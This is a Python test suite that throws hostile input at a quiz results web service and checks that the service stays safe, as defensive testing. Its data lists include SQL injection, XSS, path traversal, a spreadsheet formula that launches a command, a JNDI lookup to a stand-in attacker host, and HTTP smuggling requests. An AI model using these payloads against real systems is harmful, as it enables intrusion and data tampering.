"""Hostile input to every endpoint, on SQLite and PostgreSQL, beyond what test_http.py's corpus (a
hostile value in each field of a record) and test_attempts.py (bad records, bodies that are not a
JSON object, sizes, content types) already send:

- every method on every address, known and unknown, with hostile bodies, query strings and headers;
- JSON that parsers disagree on (NaN, duplicate keys, a byte-order mark, trailing text, comments),
  nesting and width inside the fields, and requests HTTP itself allows but no page sends;
- injection strings (SQL, HTML/JS, spreadsheet formulas) as names, read back from the database as
  bytes: exactly what was sent, and nothing else;
- attempts at another record: its attempt id sent again with other answers, unit or name.

Every answer the app gives is 2xx or 4xx, JSON in the shape of DESIGN §11.1 (a ``status``; a
``message`` in both languages when refused), never a 500 or a traceback; the only other answers are
uvicorn's own plain 400 to a request that is not HTTP, which never reaches the app.
"""

from __future__ import annotations

import json
import logging
import socket
import uuid
from typing import Any

from sqlalchemy import LargeBinary, cast, func, select

from generator.results.store import attempts

from .conftest import Reply, record, stored

PATHS = [
    "/api/v1/attempts",
    "/api/v1/public/summary",
    "/healthz",
    "/",
    "/api/v1/attempts/",
    "/api/v1/attempts/1",
    "/api/v2/attempts",
    "/API/V1/ATTEMPTS",
    "/api/v1/attempts%2f..%2f..%2fhealthz",
    "/api/v1/../../etc/passwd",
    "/admin/'%20OR%20'1'='1",
    "/%00",
    "/%ff%fe",
    "/<script>alert(1)</script>",
    "/" + "a" * 8000,
]
METHODS = ["GET", "POST", "PUT", "PATCH", "DELETE", "OPTIONS", "HEAD"]
QUERIES = ["", "?unit='%20OR%201=1--", "?x=<script>alert(1)</script>", "?=1&=2&%00=%ff", "?" + "a=1&" * 500]
HEADERS = [
    {},
    {"Origin": "https://evil.example", "X-Forwarded-For": "' OR 1=1--, <script>"},
    {"Accept": "text/html", "Accept-Language": "<script>", "Cookie": "session=' OR 1=1"},
    {"Content-Type": "application/json", "X-Forwarded-For": "999.999.999.999"},
]
BODIES = [b"", b"{}", b"null", b"<html></html>", b"' OR 1=1; --", b"\xff\xfe\x00", b'{"a":' * 3000]

STATUSES = {"accepted", "duplicate", "refused", "busy", "unavailable", "ok"}


def assert_shape(reply: Reply, method: str, where: Any) -> None:
    """2xx/4xx, JSON with a status (and a bilingual message when refused) or the summary's fields, never
    a trace of the code."""
    assert reply.status // 100 in (2, 4), (where, reply.status, reply.raw[:300])
    text = reply.raw.decode("utf-8", "replace")
    for leak in ("Traceback", 'File "', "sqlalchemy", "psycopg", "sqlite3", "pydantic"):
        assert leak not in text, (where, text[:300])
    if method == "HEAD":
        return
    assert reply.headers["Content-Type"] == "application/json", where
    assert reply.headers["X-Content-Type-Options"] == "nosniff", where
    body = json.loads(reply.raw)
    if reply.status == 200 and "status" not in body:  # the public summary
        assert set(body) == {"attempts", "participants", "units"}, (where, body)
        return
    assert body["status"] in STATUSES, (where, body)
    if reply.status >= 400:
        assert set(body["message"]) == {"zh", "en"} and all(body["message"].values()), (where, body)


def test_every_method_and_address(service):
    """Every method on the service's addresses and on odd unknown ones, with hostile query strings,
    headers and bodies: JSON answers in the §11.1 shape, and nothing stored."""
    client = service()
    for path in PATHS:
        for method in METHODS:
            reply = client.request(method, path)
            assert_shape(reply, method, (method, path))
    for query in QUERIES:
        for headers in HEADERS:
            for path in ("/api/v1/public/summary", "/healthz"):
                reply = client.request("GET", path + query, headers=headers)
                assert reply.status == 200, (path, query, headers)
                assert_shape(reply, "GET", (path, query, headers))
    for body in BODIES:
        for method in ("POST", "PUT", "PATCH", "DELETE"):
            for path in ("/api/v1/attempts", "/api/v1/public/summary", "/healthz", "/nowhere"):
                reply = client.request(method, path, body, {"Content-Type": "application/json"})
                assert_shape(reply, method, (method, path, body[:20]))
    assert stored(client.engine) == []


def _raw(body: dict, replace: dict[str, str] | None = None) -> bytes:
    text = json.dumps(body, ensure_ascii=False)
    for old, new in (replace or {}).items():
        assert old in text
        text = text.replace(old, new, 1)
    return text.encode()


def malformed(body: dict) -> dict[str, bytes]:
    """Bodies around a valid record that JSON parsers disagree on, or that nest or widen its fields."""
    first = next(iter(body["answers"]))
    wide = {f"q{n}": [] for n in range(1200)}
    return {
        "NaN score": _raw(body, {f'"score": {body["score"]}': '"score": NaN'}),
        "Infinity score": _raw(body, {f'"score": {body["score"]}': '"score": Infinity'}),
        "score 1e400": _raw(body, {f'"score": {body["score"]}': '"score": 1e400'}),
        "score -0": _raw(body, {f'"score": {body["score"]}': '"score": -0.0'}),
        "score true": _raw(body, {f'"score": {body["score"]}': '"score": true'}),
        "byte-order mark": b"\xef\xbb\xbf" + _raw(body),
        "UTF-16": json.dumps(body).encode("utf-16"),
        "trailing text": _raw(body) + b" DROP TABLE attempts",
        "two objects": _raw(body) + _raw(body),
        "comment": _raw(body, {"{": "{/* hi */"}),
        "single quotes": _raw(body).replace(b'"', b"'"),
        "nested answer": _raw(body, {f'"{first}": ': f'"{first}": ' + "[" * 3000 + "]" * 3000 + ", "}),
        "nested answers": _raw(body, {'"answers": ': '"answers": ' + '{"a": ' * 2000 + "1" + "}" * 2000 + ", "}),
        "name an object": _raw({**body, "name": {"$gt": ""}}),
        "name a list of names": _raw({**body, "name": ["a", "b"]}),
        "1,200 answers": _raw({**body, "answers": wide}),
        "answer of 3,000 letters": _raw({**body, "answers": {**body["answers"], first: ["A"] * 3000}}),
        "empty question id": _raw({**body, "answers": {**body["answers"], "": []}}),
        "NUL question id": _raw(body, {f'"{first}"': '"\\u0000"'}),
        "NUL in unit": _raw({**body, "unit": "yjj\u0000"}),
        "unit with a trailing space": _raw({**body, "unit": "yjj "}),
        "uuid as a number": _raw({**body, "attempt": uuid.UUID(body["attempt"]).int}),
        "dates as objects": _raw({**body, "started": {"$date": body["started"]}}),
        "time zone -24:00": _raw({**body, "started": body["started"][:-6] + "-24:00"}),
        "year 0": _raw({**body, "started": "0000-01-01T00:00:00+00:00"}),
        "year 9999": _raw({**body, "finished": "9999-12-31T23:59:59+00:00"}),
        "lang in capitals": _raw({**body, "lang": "ZH"}),
        "__proto__": _raw({**body, "__proto__": {"admin": True}}),
    }


def test_malformed_and_nested_records(service):
    """Records that parsers disagree on, nested thousands deep, or thousands wide: refused (422) with a
    plain reason, or (duplicate keys) one reading of them stored; never a 500."""
    client = service()
    body = record(client.quiz())
    for name, raw in malformed(body).items():
        reply = client.post(raw)
        assert reply.status == 422, (name, reply.status, reply.raw[:300])
        assert_shape(reply, "POST", name)
    assert stored(client.engine) == []
    # Duplicate keys: the last one counts (as in browsers' JSON.parse); the unit stored is that one.
    raw = _raw(body, {'"unit": "yjj"': '"unit": "<script>", "unit": "plant"'})
    reply = client.post(raw)
    assert reply.status == 201, reply.raw
    assert [row.unit for row in stored(client.engine)] == ["plant"]


NAMES = [
    "Robert'); DROP TABLE attempts;--",
    "x' UNION SELECT name FROM users--",
    "1; SELECT pg_sleep(10)--",
    "'||(SELECT version())||'",
    "$$; DELETE FROM attempts; $$",
    "\\'; --",
    "%27 OR 1=1",
    "</textarea><svg/onload=alert(1)>",
    "<img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    "&lt;b&gt;王&lt;/b&gt;",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    '=HYPERLINK("http://evil.example","点击")',
    "{{constructor.constructor('x')()}}",
    "${jndi:ldap://evil.example/a}",
    "王𠀀𪚥" + "𠀀" * 37,  # astral characters: 40 of them, the longest name allowed
    "e\u0301 combining accent",
    "名字 with spaces inside",
]


def test_injection_in_names_is_inert(service, backend):
    """SQL, markup and formulas as names are stored byte for byte as sent (read back as bytes from the
    database), harm no other record, and never appear in the public summary."""
    client = service()
    quiz = client.quiz()
    sent = {}
    for name in NAMES:
        body = record(quiz, name=name)
        reply = client.post(body)
        assert reply.status == 201, (name, reply.raw)
        assert_shape(reply, "POST", name)
        sent[body["attempt"]] = name
    name_bytes = (
        func.convert_to(attempts.c.name, "UTF8") if backend == "postgresql" else cast(attempts.c.name, LargeBinary)
    )
    with client.engine.connect() as connection:
        rows = connection.execute(select(attempts.c.attempt, name_bytes, func.length(attempts.c.name))).all()
    assert {str(attempt): (bytes(raw), length) for attempt, raw, length in rows} == {
        attempt: (name.encode(), len(name)) for attempt, name in sent.items()
    }
    summary = client.get("/api/v1/public/summary")
    assert summary.status == 200 and summary.json["attempts"] == len(NAMES)
    for name in NAMES:
        assert name not in summary.raw.decode()


def test_nothing_reaches_another_record(service):
    """Another worker's attempt id sent again with other answers, unit, name or device: answered
    "duplicate" with the first record's own score, and that record stays exactly as it was."""
    client = service()
    quiz = client.quiz()
    victim = record(quiz, right=False, name="李四", unit="yjj")
    assert client.post(victim).status == 201
    before = stored(client.engine)
    changes = [
        {"answers": record(quiz)["answers"], "score": 100},
        {"unit": "plant"},
        {"name": "'; UPDATE attempts SET score = 100; --"},
        {"device": str(uuid.uuid4()), "lang": "en"},
        {"name": "<script>alert(1)</script>", "unit": "town-1", "answers": record(quiz)["answers"]},
    ]
    for change in changes:
        reply = client.post({**victim, **change})
        assert reply.status == 200 and reply.json == {"status": "duplicate", "score": 0, "passed": False}, change
    # The same id spelled otherwise is the same attempt, not a second record.
    same = uuid.UUID(victim["attempt"])
    for spelling in (str(same).upper(), same.hex, "{" + str(same) + "}", same.urn):
        reply = client.post({**victim, "attempt": spelling, "unit": "plant"})
        assert reply.status == 200 and reply.json["status"] == "duplicate", spelling
    # Injection that names the victim, in a record of its own.
    attacker = record(quiz, name=f"x' OR attempt LIKE '{victim['attempt'][:8]}%")
    assert client.post(attacker).status == 201
    after = stored(client.engine)
    assert after[0] == before[0] and len(after) == 2


def _exchange(port: int, raw: bytes, hang_up: bool = False) -> bytes:
    """Send ``raw`` on a connection of its own (and with ``hang_up`` close the sending side, as a
    phone losing the network does); what comes back."""
    with socket.create_connection(("127.0.0.1", port), timeout=10) as connection:
        connection.sendall(raw)
        if hang_up:
            connection.shutdown(socket.SHUT_WR)
        chunks = []
        try:
            while chunk := connection.recv(65536):
                chunks.append(chunk)
        except TimeoutError:
            pass
        return b"".join(chunks)


def test_requests_no_page_sends(service, caplog):
    """Requests HTTP allows but no page sends (Content-Length and chunked together, a huge or wrong
    Content-Length, a body cut short, a broken chunk), and requests that are not HTTP: the app answers
    in the §11.1 shape, uvicorn answers a plain 400 to what is not HTTP, nothing is stored, and the
    service goes on serving."""
    caplog.set_level(logging.WARNING, logger="generator.results")
    client = service()
    body = json.dumps(record(client.quiz())).encode()
    head = (
        b"POST /api/v1/attempts HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\nConnection: close\r\n"
    )
    cases = {
        "length and chunked": head + b"Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n3\r\n{}x\r\n0\r\n\r\n",
        "huge length": head + b"Content-Length: " + b"9" * 30 + b"\r\n\r\n" + body,
        "length over 16 KiB": head + b"Content-Length: 16385\r\n\r\n" + body,
        "body cut short": head + f"Content-Length: {len(body) + 100}\r\n\r\n".encode() + body,
        "broken chunk": head + b"Transfer-Encoding: chunked\r\n\r\nzz\r\n",
        "negative length": head + b"Content-Length: -1\r\n\r\n",
        "not HTTP": b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"\x00" * 40,
        "no request line": b"\r\n\r\n\r\n",
    }
    for name, raw in cases.items():
        answer = _exchange(client.port, raw, hang_up=name == "body cut short")
        if not answer:
            assert name == "body cut short"  # the client has gone: no one to answer
            continue
        status_line, _, rest = answer.partition(b"\r\n")
        status = int(status_line.split()[1])
        assert 400 <= status < 500, (name, answer[:300])
        assert b"Traceback" not in answer, name
        if b"application/json" in rest.split(b"\r\n\r\n")[0]:
            payload = rest.split(b"\r\n\r\n", 1)[1]
            if b"transfer-encoding: chunked" in rest.lower().split(b"\r\n\r\n")[0]:
                payload = payload.split(b"\r\n", 1)[1].rsplit(b"\r\n0\r\n", 1)[0]
            message = json.loads(payload)["message"]
            assert message["zh"] and message["en"], name
        else:
            assert status == 400, (name, answer[:300])  # uvicorn's own: the request never reached the app
    assert stored(client.engine) == []
    assert [r.getMessage() for r in caplog.records] == []  # a client gone is no "unexpected error"
    assert client.get("/healthz").status == 200
    assert client.post(record(client.quiz())).status == 201
